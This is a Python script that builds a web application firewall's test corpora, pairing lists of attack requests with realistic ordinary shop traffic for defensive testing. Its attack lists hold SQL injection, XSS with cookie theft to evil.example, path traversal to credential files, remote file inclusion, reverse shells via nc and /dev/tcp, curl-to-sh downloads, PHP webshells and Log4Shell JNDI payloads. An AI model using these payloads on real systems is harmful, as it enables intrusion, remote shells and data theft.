#!/usr/bin/env python3
"""Builds the waf plugin's test corpora (tests/waf/attacks.jsonl, tests/waf/ordinary.jsonl).

Written for this project: the payloads are our own, in the shapes attacks take, placed
where they arrive in real requests (query, form body, JSON body, multipart, headers,
cookies, path). Ordinary traffic is what a site and its API see all day: prose with
apostrophes, searches with quotes, JSON and GraphQL calls, long cookies, uploads.
Deterministic (a fixed seed): re-running gives the same files.

    python3 tests/waf/make_corpus.py      # rewrites the two .jsonl files
One request per line: {"cat", "method", "uri", "headers": {...}, "body"}.
"""
import json
import os
import random
import urllib.parse

R = random.Random(14)
HERE = os.path.dirname(os.path.abspath(__file__))
UA = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
]
q = urllib.parse.quote
qp = urllib.parse.quote_plus


def browser(extra=None):
    h = {
        "Host": "shop.example.com",
        "User-Agent": R.choice(UA),
        "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "Accept-Language": "en-GB,en;q=0.7",
        "Accept-Encoding": "gzip, deflate, br",
    }
    if extra:
        h.update(extra)
    return h


def req(cat, method="GET", uri="/", headers=None, body=""):
    headers = headers or browser()
    if body:
        headers["Content-Length"] = str(len(body.encode()))
    return {"cat": cat, "method": method, "uri": uri, "headers": headers, "body": body}


def form(d):
    return urllib.parse.urlencode(d)


FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}

# ---- attacks: (category, payload) ----
SQLI = [
    "1' OR '1'='1", "admin'--", "' or 1=1--", "1 UNION SELECT username, password FROM users",
    "-1' UNION ALL SELECT NULL,NULL,version()-- -", "1; DROP TABLE users", "'; exec xp_cmdshell 'dir'--",
    "1' AND SLEEP(5)#", "1) or benchmark(5000000,md5(1))#", "' AND extractvalue(1,concat(0x7e,(select user())))-- ",
    "1 AND 1=1", "1 order by 5--", "x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
    "1'; WAITFOR DELAY '0:0:5'--", "1 or pg_sleep(3)", "' UNION/**/SELECT/**/1,2,3--",
    "\" or \"\"=\"", "') or ('a'='a", "1' and ascii(substring((select password from users limit 1),1,1))>64--",
    "1'||(select load_file('/etc/passwd'))||'", "admin' #", "1 uNiOn sElEcT 1,@@version,3",
    "1'; insert into users (name) values ('x')--", "'; update users set role='admin' where id=1--",
    "1 and (select 1 from dual)", "' or exists(select * from users)--", "1' AND updatexml(1,concat(0x7e,database()),1)--",
    "%27%20OR%201%3D1--", "1'/**/oR/**/'1'='1", "1 having 1=1--", "1' and 1=cast((select version()) as int)--",
    "'; select pg_sleep(5)--", "1 union(select 1,2)", "char(49,50,51,52)", "x' or true--",
]
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(document.domain)>",
    "javascript:alert(1)", "\"><script>document.location='http://evil.example/c?'+document.cookie</script>",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert('x')>", "<a href=\"javascript:void(0)\" onclick=\"steal()\">x</a>",
    "'-alert(1)-'", "<ScRiPt>prompt(1)</sCrIpT>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<img src=1 oNeRrOr=confirm`1`>",
    "<details open ontoggle=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<div style=\"width: expression(alert(1))\">", "<input autofocus onfocus=alert(1)>", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<embed src=//evil.example/x.swf>", "<a href=\"jav&#x61;script:alert(1)\">click</a>", "\"onmouseover=\"alert(1)",
    "<svg/onload=eval(atob('YWxlcnQoMSk='))>", "<x onpointerenter=alert(1)>hover</x>", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "';document.write(String.fromCharCode(60,115))//", "<video><source onerror=\"alert(1)\">", "<base href=\"//evil.example/\">",
    "<form action=\"javascript:alert(1)\"><input type=submit>", "<%00script>alert(1)</script>",
]
TRAVERSAL = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/var/www/../../etc/shadow", "..%252f..%252f..%252fetc%252fpasswd", "/proc/self/environ", "../.env",
    "..%c0%af..%c0%afetc/passwd", "C:\\Windows\\System32\\drivers\\etc\\hosts", "/.git/config", "../../../../../../boot.ini",
    "..;/WEB-INF/web.config", "file/../../../.ssh/id_rsa", "/etc/passwd%00.jpg", "....\\\\....\\\\etc\\\\hosts",
]
RFI = [
    "http://203.0.113.7/shell.txt", "https://evil.example/shell.txt?", "php://filter/convert.base64-encode/resource=index.php",
    "php://input", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "ftp://198.51.100.2/x.php",
    "expect://id", "zip://uploads/avatar.jpg#shell.php", "phar://uploads/x.phar/a", "http://evil.example/c99.txt??",
    "file:///etc/passwd", "HtTp://192.0.2.44/r57.php",
]
SHELL = [
    "; cat /etc/passwd", "| id", "&& whoami", "`id`", "$(whoami)", "; ls -la /", "127.0.0.1; uname -a",
    "x|nc -e /bin/sh 203.0.113.9 4444", "; bash -i >& /dev/tcp/203.0.113.9/8080 0>&1", "$(curl http://evil.example/x.sh|sh)",
    "; wget http://evil.example/bot -O /tmp/bot; chmod +x /tmp/bot", "127.0.0.1 && ping -c 3 evil.example",
    "a;c\\at /e\"tc/pa'ss'wd", "${IFS}cat${IFS}/etc/passwd", "x; powershell -enc SQBFAFgA", "| cmd.exe /c dir",
    "; sleep 10", "1;{cat,/etc/passwd}", "$(sleep 5)", "; /bin/sh -c id", "& net user hacker p4ss /add",
    "|| curl -s http://evil.example/$(hostname)", "\nid\n", "; echo 'pwned' > /var/www/html/x.txt",
]
PHP = [
    "<?php system($_GET['c']); ?>", "<?= `id` ?>", "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))", "system('id')",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}", "phpinfo()", "assert($_POST['x'])",
    "file_put_contents('x.php','<?php eval($_REQUEST[1]);')", "passthru(\"ls\")", "${@print(md5(1))}",
    "preg_replace('/.*/e','system(\"id\")','')", "include('http://evil.example/x.txt')", "shell_exec('whoami')",
    "call_user_func('system','id')", "$_SERVER['HTTP_X']", "a:1:{i:0;O:4:\"Evil\":0:{}}",
]
JAVA = [
    "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/x}", "${jndi:rmi://203.0.113.5:1099/o}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/z}", "${env:AWS_SECRET_ACCESS_KEY}",
    "${jndi:dns://evil.example}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "${sys:java.version}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "java.lang.Runtime.getRuntime().exec(\"id\")", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{''.getClass().forName('java.lang.Runtime')}",
    "${date:yyyy}${jndi:ldap://x.evil.example/}",
]
PLACES = ["query", "form", "json", "cookie", "header", "multipart"]


def place(cat, payload, where):
    if where == "query":
        return req(cat, uri="/products?id=" + q(payload, safe="") + "&sort=price")
    if where == "form":
        return req(cat, "POST", "/login", browser(FORM), form({"user": payload, "pass": "hunter2"}))
    if where == "json":
        body = json.dumps({"order": {"note": payload, "qty": 2}, "coupon": None})
        return req(cat, "POST", "/api/v1/orders", browser(JSON), body)
    if where == "cookie":
        return req(cat, uri="/account", headers=browser({"Cookie": "lang=en; pref=" + q(payload, safe="") + "; theme=dark"}))
    if where == "header":
        name = R.choice(["User-Agent", "Referer", "X-Forwarded-For"])
        v = payload if name != "Referer" else "https://shop.example.com/?q=" + q(payload, safe="")
        return req(cat, uri="/", headers=browser({name: v}))
    if where == "multipart":
        b = "----lpWafBoundary7MA4YWxk"
        body = ("--%s\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n%s\r\n"
                "--%s\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\n--%s--\r\n") % (b, payload, b, b)
        return req(cat, "POST", "/upload", browser({"Content-Type": "multipart/form-data; boundary=" + b}), body)
    raise ValueError(where)


def attacks():
    out = []
    for cat, lst, places in [
        ("sqli", SQLI, ["query", "form", "json", "cookie", "multipart"]),
        ("xss", XSS, ["query", "form", "json", "multipart", "cookie"]),
        ("traversal", TRAVERSAL, ["query", "json", "cookie"]),
        ("rfi", RFI, ["query", "form"]),
        ("shell", SHELL, ["query", "form", "json", "cookie"]),
        ("php", PHP, ["query", "form", "json"]),
        ("java", JAVA, ["header", "query", "json", "cookie"]),
    ]:
        for i, p in enumerate(lst):
            # Each payload in two places (rotating), so every place sees every category.
            for k in range(2):
                out.append(place(cat, p, places[(i + k) % len(places)]))
    # RFI in include-like parameter names.
    for p in ["http://evil.example/shell.txt", "https://evil.example/x", "ftp://evil.example/y.php"]:
        for n in ["page", "file", "template", "include"]:
            out.append(req("rfi", uri="/index.php?%s=%s" % (n, q(p, safe=""))))
    # Traversal in the path itself, and access to files scanners ask for.
    for p in ["/static/..%2f..%2f..%2fetc/passwd", "/.env", "/.git/config", "/app/..;/admin/.htpasswd",
              "/download/%2e%2e/%2e%2e/etc/shadow", "/wp-config.php", "/images/..%5c..%5cwindows%5cwin.ini"]:
        out.append(req("traversal", uri=p))
    # Scanners and bots announcing themselves.
    for ua in ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
               "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
               "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
               "Fuzz Faster U Fool v2.0.0", "gobuster/3.6", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
               "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0 Safari/537.36 Acunetix",
               "Wfuzz/3.1.0", "commix/v3.9", "Arachni/v1.6.1", "Mozilla/4.0 (Hydra)", "XSStrike"]:
        out.append(req("scanner", uri="/", headers=browser({"User-Agent": ua})))
    out.append(req("scanner", uri="/", headers=browser({"Acunetix-Product": "WVS/14"})))
    # Protocol abuses the parser lets through.
    h = browser(); del h["Host"]
    out.append(req("protocol", uri="/", headers=h))
    h = browser(); del h["Host"]
    out.append(req("protocol", uri="/account?tab=orders", headers=h))
    out.append(req("protocol", "GET", "/search?q=shoes", browser({"Content-Type": "text/plain"}), "hidden=1"))
    out.append(req("protocol", "HEAD", "/", browser({"Content-Type": "application/json"}), "{\"a\":1}"))
    out.append(req("protocol", uri="/search?q=%zzshoes"))
    out.append(req("protocol", uri="/search?q=50%"))
    out.append(req("protocol", uri="/a%gg/b"))
    out.append(req("protocol", "POST", "/login", browser(FORM), "user=bob%2&pass=x"))
    out.append(req("protocol", "POST", "/api/v1/orders", browser(JSON), "{\"order\": {\"note\": \"x\",}"))
    out.append(req("protocol", "POST", "/api/v1/orders", browser(JSON), "{'single': 'quotes'}"))
    out.append(req("protocol", "POST", "/upload", browser({"Content-Type": "multipart/form-data; boundary=abc"}), "--abc\r\nno header end"))
    out.append(req("protocol", uri="/file?name=" + q("report.pdf\x00.php", safe="")))
    out.append(req("protocol", uri="/products?id=1", headers=browser({"Cookie": "s=a%00b"})))
    # Uploads of server-side scripts.
    for fn in ["shell.php", "image.php.jpg", "x.phtml", "cmd.jsp", ".htaccess", "run.aspx"]:
        b = "----lpWafBoundaryUp"
        body = ("--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: image/jpeg\r\n\r\nGIF89a\r\n--%s--\r\n") % (b, fn, b)
        out.append(req("php", "POST", "/upload", browser({"Content-Type": "multipart/form-data; boundary=" + b}), body))
    return out


# ---- ordinary traffic ----
PROSE = [
    "I can't believe how comfortable these are, they're my new favourite shoes!",
    "We'd like to order 3 more; the last batch arrived on time & in good condition.",
    "My daughter's teacher recommended this book -- it's wonderful.",
    "Don't select the \"express\" option if you're ordering from outside the UK.",
    "It's 50% off until Friday, isn't it? I'd love to know before I order.",
    "O'Brien & Sons have been our supplier since '98; we're very happy with them.",
    "Could you please update my address? It's 12 Rue de l'Église, Paris.",
    "The union of our two teams was a great decision; select members will lead it.",
    "Drop me a line when it's back in stock, I'll buy two.",
    "Works with Windows and Linux (tested on Debian 12 and Ubuntu 22.04).",
    "Great product. 5/5 would recommend. Shipping was fast (2 days).",
    "\"Best purchase of the year\" - that's what my husband said :)",
    "I ordered size 42 but received 44; please exchange. Order #A-1932.",
    "Is there a discount for orders > 100 units? We'd need them by 1st March.",
    "Thanks! I've attached the invoice from last month for reference.",
    "Where's my order? It's been 5 days & the tracking page says 'label created'.",
    "She said: 'it's the best coffee I've had' and ordered another bag.",
    "Can I pay with PayPal or only by card?",
    "Hi, the app crashes when I tap 'settings' then 'account' on iOS 17.1.",
    "Please cancel order 20931 -- I made a mistake with the quantity.",
    "I'd rate it 4 or 5 stars; the colour's slightly different from the photo.",
    "We're hosting a team event on the 14th; can you deliver to the office?",
    "Love the new design! The old one's menu was confusing.",
    "My email is jane.o'neil@example.org, please use that one.",
    "Regarding order #88 & #91: both were fine, thank you :-)",
    "Is the cotton organic? I'm allergic to some dyes; it's important to me.",
    "Select a size from the menu, then click 'add to basket'.",
    "To be or not to be, that is the question.",
    "Use the code SPRING-24 at checkout; it's valid till Sunday.",
    "I tried it on my sister's laptop and it worked; mine says 'error 500'.",
]
SEARCHES = [
    "\"red shoes\" or boots", "men's jackets", "kids' toys under £20", "o'neill wetsuit", "\"stainless steel\" -plastic",
    "usb-c cable 2m", "what's the best tent for 4 people", "iphone 15 case", "samsung \"galaxy s24\"", "50% off",
    "rock 'n' roll t-shirt", "select comfort mattress", "union jack flag", "drop-leaf table", "1/2 inch drill bit",
    "c++ programming book", "where's my order", "\"harry potter\" box set", "table & chairs", "chef's knife",
    "vitamin d3 + k2", "desk lamp (led)", "size 10.5", "mother's day gift", "#1 bestseller",
    "script writing course", "javascript the good parts", "sql for beginners", "cat food", "ls 430 parts",
]
# Prose that looks a little like an attack: separators, quotes, SQL words, markup, paths.
HARD = [
    "bread & more", "Tom & Jerry; cat lovers welcome", "Select from our range of shoes", "I'd like 1 or 2 more",
    "it's -- honestly -- great", "alert (the manager) please", "I <3 this", "if a<b and c>d then",
    "we said 'yes' or 'no' = maybe", "the 'order by' date", "O'Reilly's \"SQL Cookbook\" or 'Learning SQL'",
    "Use ls -la to list files", "run `ls -la` in the terminal", "price: $(5 for 2)", "email me at bob@example.com; thanks!",
    "1 of 2; sleep well", "the file is at /etc/nginx/nginx.conf", "see ../docs/readme for details",
    "where id = 5 and name = 'x'", "Hello <b>world</b>", "<a href=\"https://example.com\">link</a>",
    "javascript: the good parts", "echo chamber; more news", "C:\\Users\\me\\Documents\\cv.pdf", "50%", "price 10% + tax",
    "drop table tennis lessons; book now", "update: union members select a new chair",
    "I'm going to the shop; cat food & more", "read more | share", "nice work | id card renewal",
    "SELECT * FROM users -- my SQL homework question", "cats | dogs | birds", "rock & roll; jazz & blues",
    "5' 11\" tall, 180 lbs", "the 90's were great; so were the 80's", "x = 'a' || 'b' concatenates in SQL",
]

GRAPHQL = [
    ('query GetProduct($id: ID!) { product(id: $id) { id name price { amount currency } reviews(first: 5) { edges { node { rating text } } } } }', {"id": "UHJvZHVjdDoxMjM="}),
    ('mutation AddToCart($input: CartInput!) { addToCart(input: $input) { cart { id items { id quantity } } errors { field message } } }', {"input": {"productId": "123", "quantity": 2}}),
    ('{ viewer { login repositories(first: 10, orderBy: {field: UPDATED_AT, direction: DESC}) { nodes { name description } } } }', None),
    ('query Search($q: String!) { search(query: $q, type: PRODUCT, first: 20) { ... on Product { id name } } }', {"q": "men's \"running\" shoes"}),
    ('fragment userFields on User { id name email } query { me { ...userFields orders(status: [OPEN, SHIPPED]) { id total } } }', None),
    ('mutation { createComment(postId: 42, body: "I can\'t wait -- it\'s great! Select one & union them") { id } }', None),
    ('query ($first: Int = 10, $after: String) { products(first: $first, after: $after) { pageInfo { hasNextPage endCursor } edges { cursor node { id } } } }', {"after": "Y3Vyc29yOjEw"}),
    ('subscription OnOrder { orderUpdated(shop: "main") { id status updatedAt } }', None),
]


def cookie_long():
    parts = [
        "_ga=GA1.2.%d.%d" % (R.randint(10**8, 10**9), R.randint(10**8, 10**9)),
        "_gid=GA1.2.%d.%d" % (R.randint(10**8, 10**9), R.randint(10**8, 10**9)),
        "session=" + "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_") for _ in range(R.randint(200, 600))),
        "csrftoken=" + "".join(R.choice("0123456789abcdef") for _ in range(64)),
        "cart=" + q(json.dumps({"items": [{"id": R.randint(1, 999), "q": R.randint(1, 3)} for _ in range(R.randint(1, 6))]}), safe=""),
        "consent=" + q("{necessary:true,analytics:false,marketing:false,ver:3}", safe=""),
        "jwt=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(180)) + ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "recently_viewed=" + "%2C".join(str(R.randint(1000, 9999)) for _ in range(12)),
        "lang=en-GB", "tz=Europe%2FLondon",
    ]
    R.shuffle(parts)
    return "; ".join(parts[: R.randint(5, len(parts))])


def ordinary():
    out = []
    pages = ["/", "/products", "/products/123-red-shoes", "/category/men/jackets", "/cart", "/account/orders",
             "/blog/2024/03/how-to-choose-a-tent", "/static/app.3f9a1c.js", "/images/p/123_large.webp", "/help/returns"]
    for i in range(60):
        h = browser({"Cookie": cookie_long(), "Referer": "https://shop.example.com" + R.choice(pages)})
        if i % 3 == 0:
            h["If-None-Match"] = "W/\"5e1-%x\"" % R.randint(0, 1 << 30)
        out.append(req("page", uri=R.choice(pages) + R.choice(["", "?page=2", "?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale", "?ref=home&sort=price_asc"]), headers=h))
    for s in SEARCHES:
        for k in range(2):
            h = browser({"Cookie": cookie_long()}) if k else browser()
            out.append(req("search", uri="/search?q=" + qp(s) + ("&page=2" if k else ""), headers=h))
    for i, p in enumerate(PROSE):
        out.append(req("comment", "POST", "/products/123/reviews", browser(FORM),
                       form({"name": R.choice(["Siobhán O'Connor", "Jean-Luc", "D'Arcy", "Anne-Marie", "bob"]), "rating": str(R.randint(1, 5)), "comment": p, "csrf": "a9f3" * 8})))
        out.append(req("contact", "POST", "/contact", browser(FORM),
                       form({"email": "someone@example.org", "subject": "Question about order #%d" % (1000 + i), "message": p + "\r\n\r\nThanks,\r\nSam"})))
    for p in HARD:
        out.append(req("comment-hard", "POST", "/forum/reply", browser(FORM), form({"body": p, "thread": "4411"})))
    for i in range(20):
        out.append(req("login", "POST", "/login", browser(FORM), form({"username": R.choice(["alice", "o'hara", "jdoe@example.com", "Zoë"]), "password": R.choice(["correct horse battery staple", "P@ssw0rd!'\"", "s3cr3t;--x", "hunter2#"]), "remember": "on"})))
    for i in range(40):
        body = {"customer": {"name": R.choice(["Mary O'Neil", "Chen Wei", "José Álvarez"]), "email": "c%d@example.com" % i},
                "items": [{"sku": "SKU-%04d" % R.randint(1, 9999), "qty": R.randint(1, 4), "price": round(R.uniform(1, 200), 2)} for _ in range(R.randint(1, 5))],
                "note": R.choice(PROSE), "gift": R.choice([True, False]), "coupon": None,
                "shipping": {"address": "%d Baker's Row" % R.randint(1, 200), "city": "London", "postcode": "NW1 6XE"}}
        out.append(req("json", R.choice(["POST", "PUT", "PATCH"]), "/api/v1/orders" + ("/%d" % i if i % 2 else ""),
                       browser(dict(JSON, Authorization="Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl")), json.dumps(body)))
    for i in range(24):
        g, v = GRAPHQL[i % len(GRAPHQL)]
        body = {"query": g, "operationName": None}
        if v is not None:
            body["variables"] = v
        out.append(req("graphql", "POST", "/graphql", browser(JSON), json.dumps(body)))
    for i in range(12):
        out.append(req("rest", R.choice(["DELETE", "GET"]), "/api/v1/carts/%d/items/%d" % (i, R.randint(1, 50)), browser({"Accept": "application/json"})))
    for i, fn in enumerate(["holiday photo.jpg", "CV - Jane O'Neil.pdf", "invoice_2024-03.pdf", "data.csv", "notes.txt", "scan (2).png",
                            "résumé.docx", "report final v2.xlsx", "diagram.svg.png", "archive.tar.gz", "IMG_2041.HEIC", "slides.pptx"]):
        b = "----WebKitFormBoundary%016x" % R.getrandbits(64)
        content = "".join(R.choice("abcdefghijklmnopqrstuvwxyz \n") for _ in range(300))
        body = ("--%s\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n%s\r\n"
                "--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: application/octet-stream\r\n\r\n%s\r\n--%s--\r\n") % (
            b, R.choice(PROSE), b, fn, content, b)
        out.append(req("upload", "POST", "/upload", browser({"Content-Type": "multipart/form-data; boundary=" + b}), body))
    return out


def write(name, rows):
    with open(os.path.join(HERE, name), "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False, sort_keys=True) + "\n")
    print(name, len(rows))


if __name__ == "__main__":
    write("attacks.jsonl", attacks())
    write("ordinary.jsonl", ordinary())
